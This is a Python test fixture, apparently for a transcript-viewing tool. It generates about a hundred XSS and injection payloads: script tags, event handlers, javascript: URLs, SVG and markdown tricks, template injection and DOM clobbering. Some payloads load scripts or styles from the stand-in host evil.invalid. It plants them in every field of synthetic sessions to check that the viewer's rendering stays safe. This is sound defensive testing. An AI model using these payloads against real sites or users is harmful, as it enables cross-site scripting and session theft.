"""Words that try to act in a browser, some hundred of them, and sessions that hold them in every field."""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from recollect.testing import HomeBuilder, TranscriptBuilder, uuid_from
from recollect.testing.toolcalls import bash, edit, todo, todo_write, write

ACT = "window.__acted=1"
"""What a payload does if it gets through."""
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "marquee",
    "iframe",
    "object data=x",
)
_EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onpageshow", "onmouseover", "onstart")
_URLS = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"\x01javascript:{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    f"vbscript:{ACT}",
    f"javascript&colon;{ACT}",
    f"&#106;avascript:{ACT}",
    f"//evil.invalid/%0a{ACT}",
    f"javascript://%0a{ACT}",
)
_WHOLE = (
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    f"</script><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"<svg><script>{ACT}</script></svg>",
    f"<math><mi xlink:href='javascript:{ACT}'>x</mi></math>",
    f"<svg><a xlink:href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to='javascript:{ACT}'>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    f"<form action='javascript:{ACT}'><button>x</button></form>",
    f"<isindex type=image src=1 onerror={ACT}>",
    f"<template><script>{ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<x onclick={ACT}>x</x>",
    f'"><img src=x onerror={ACT}>',
    f"'><img src=x onerror={ACT}>",
    f"` onmouseover={ACT} `",
    f'" autofocus onfocus={ACT} x="',
    f"' onclick={ACT} '",
    "{{7*7}}{{constructor.constructor('" + ACT + "')()}}",
    "${" + ACT + "}",
    "#{" + ACT + "}",
    "{% raw %}<script>" + ACT + "</script>",
    "<%= 7*7 %>",
    f"<img hx-get='/sessions' hx-trigger=load hx-on:load='{ACT}' src=x>",
    "<div hx-get=//evil.invalid hx-trigger=load></div>",
    f"<div data-hx-on:click='{ACT}'>",
    f"\x1b[31m<script>{ACT}</script>\x1b[0m",
    f"\x1b]8;;javascript:{ACT}\x07x\x1b]8;;\x07",
    f"<scr\x00ipt>{ACT}</scr\x00ipt>",
    f"\ufeff<script>{ACT}</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"\\u003cscript\\u003e{ACT}",
    "<a href=x id=location name=innerHTML>x</a>",
    "<form id=dialog-body><input name=children>",
    "<img name=notices src=x>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ACT}</x:script>",
)
_MARKDOWN = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "![x][y]\n\n[y]: {} 'title\" onload=1'",
    '[x](<{}> "t\' onclick=1")',
    "| a |\n|--|\n| [x]({}) |",
    "# [x]({})",
    "> [x]({})",
    "```{}\ncode\n```",
    "`{}`",
    "~~[x]({})~~",
    "- [ ] [x]({})",
    '```mermaid\ngraph TD; A-->B; click A "{}"\n```',
    "$${}$$",
)


def payloads() -> list[str]:
    tags = [f"<{tag} {event}={ACT}>" for tag, event in itertools.product(_TAGS, _EVENTS)]
    quoted = [f"<{tag} {event}='{ACT}' x=\"" for tag, event in itertools.product(_TAGS[:5], _EVENTS[:5])]
    links = [f'<a href="{url}">x</a>' for url in _URLS]
    written = [pattern.format(url) for pattern, url in itertools.product(_MARKDOWN, _URLS)]
    return [*_WHOLE, *tags, *quoted, *links, *written]


def compound(number: int) -> str:
    """Several of them in one string, another selection for each number."""
    every = payloads()
    return " ".join(every[(number * 7 + step * 31) % len(every)] for step in range(4))


KEPT = frozenset({"type", "subtype", "uuid", "parentUuid", "sessionId", "role", "timestamp", "data"})
"""Fields without which a row is not shown at all; they are attacked in rows of their own."""


def string_places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from string_places(item, (*path, key))
    elif isinstance(value, list):
        for number, item in enumerate(value[:2]):
            yield from string_places(item, (*path, number))


def changed_at(value: Any, path: tuple[Any, ...], text: str) -> Any:
    made = copy.deepcopy(value)
    step = made
    for key in path[:-1]:
        step = step[key]
    step[path[-1]] = text
    return made


def rich_session(home: HomeBuilder) -> TranscriptBuilder:
    """A session with every kind of row that a page shows."""
    t = home.session("/work/app", git_branch="main")
    first = t.user("A question")
    t.file_history_snapshot(first)
    t.attachment("skill_listing", content="- a: b", skillCount=1, isInitial=True)
    t.user(
        [
            {"type": "text", "text": "See"},
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}},
        ]
    )
    t.call(bash("ls", "a\n"), "I look.", thinking="Hm")
    t.call(edit("/work/app/a.py", "a", "b", original="a\n"))
    t.call(write("/work/app/b.py", "x = 1\n"))
    t.call(todo_write([todo("Something", "in_progress", "Doing")]))
    subagent = t.subagent("Look around", description="Look")
    subagent.finish("Nothing there.")
    t.api_error()
    t.compact()
    t.user("And on")
    t.assistant(blocks=[{"type": "mystery", "words": "unknown"}])
    t.turn_duration()
    t.title("A title")
    t.title("An ai title", ai=True)
    t.state("tag", tag="tagged")
    t.state("pr-link", prUrl="https://example.com/1", prNumber=1)
    t.last_prompt("And on")
    return t


def attacked_home(root: Path) -> tuple[str, list[str]]:
    """A home in which every string of every row is a payload once, and all payloads are prompts and answers once.

    Returns the session that holds all of them, and the others.
    """
    home = HomeBuilder(root)
    rich = rich_session(home)
    everything = home.session("/work/" + "<img src=x onerror=window.__acted=1>", git_branch=compound(1))
    for text in payloads():
        everything.user(text)
    for start in range(0, len(payloads()), 8):
        everything.assistant("\n\n".join(payloads()[start : start + 8]), thinking=compound(start))
    everything.call(bash(compound(2), compound(3)))
    everything.call(edit(compound(4), "a", compound(5), original="a\n"))
    everything.title(compound(6))
    everything.state("tag", tag=compound(7))
    others = [_every_place(home, rich, everything.session_id)]
    home.write()
    return everything.session_id, others


def _every_place(home: HomeBuilder, rich: TranscriptBuilder, _: str) -> str:
    """A session whose rows are those of `rich`, each once for every string in it, with that string replaced."""
    made = home.session("/work/fields")
    made.user("Every place")
    number = 0
    for line in rich.lines:
        entry = json.loads(line)
        for path in string_places(entry):
            number += 1
            changed = changed_at(entry, path, compound(number))
            if path[-1] != "uuid" and "uuid" in changed:
                changed["uuid"] = uuid_from("attack", number)
            if path[-1] != "sessionId" and "sessionId" in changed:
                changed["sessionId"] = made.session_id
            made.raw(json.dumps(changed).encode() + b"\n")
    return made.session_id
